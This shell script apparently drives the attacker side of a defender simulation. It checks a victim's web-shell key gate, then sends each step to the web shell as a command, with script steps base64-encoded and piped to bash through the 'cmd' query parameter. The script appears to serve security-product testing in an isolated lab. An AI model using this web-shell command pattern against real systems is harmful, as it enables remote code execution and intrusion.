# Runs in the attacker. Waits until the client reports that the victim is ready, then sends one request per step to the
# victim's web shell. curl prints the victim's reports to this pod's log. The key of the web shell, the token of the
# step and the line "http <status>" are from $CURL_HOME/.curlrc, which differs for each step.
say() { printf 'defender-sim/1 %s\n' "$*"; }
# Requests a page without the key; any response but 403 means that the gate does not protect the web shell.
gate() {
  local code status
  for _ in 1 2 3 4 5; do
    code=$(curl -qso /dev/null -m 10 -w '%{http_code}' http://mdc-simulation-victim/ws.php)
    status=$?
    [ $status = 6 ] || [ $status = 7 ] || break
    sleep 1
  done
  say gate "$1" "${code:-0}" "$status"
  [ "$code" = 403 ]
}
@SETUP@
until [ -s /simulation/go/run ]; do sleep 0.1; done
if gate before; then
  for file in /simulation/steps/*; do
    name=${file##*/}
    number=${name%%-*} step=${name#*-}
    case $file in
      *.sh) step=${step%.sh} query="cmd=echo $(base64 -w0 "$file")| base64 -d| bash" ;;
      *.visit) step=${step%.visit} query=visit=$step ;;
      *) query=cmd=$(<"$file") ;;
    esac
    say begin "$step"
    for _ in 1 2 3 4 5; do
      CURL_HOME=/simulation/key/$number curl -Gs --data-urlencode "$query" http://mdc-simulation-victim/ws.php
      status=$?
      # Retry only if no connection was made: a request that may have run is never sent twice.
      [ $status = 6 ] || [ $status = 7 ] || break
      sleep 1
    done
    say end "$step" "$status"
  done
  gate after
fi
say done
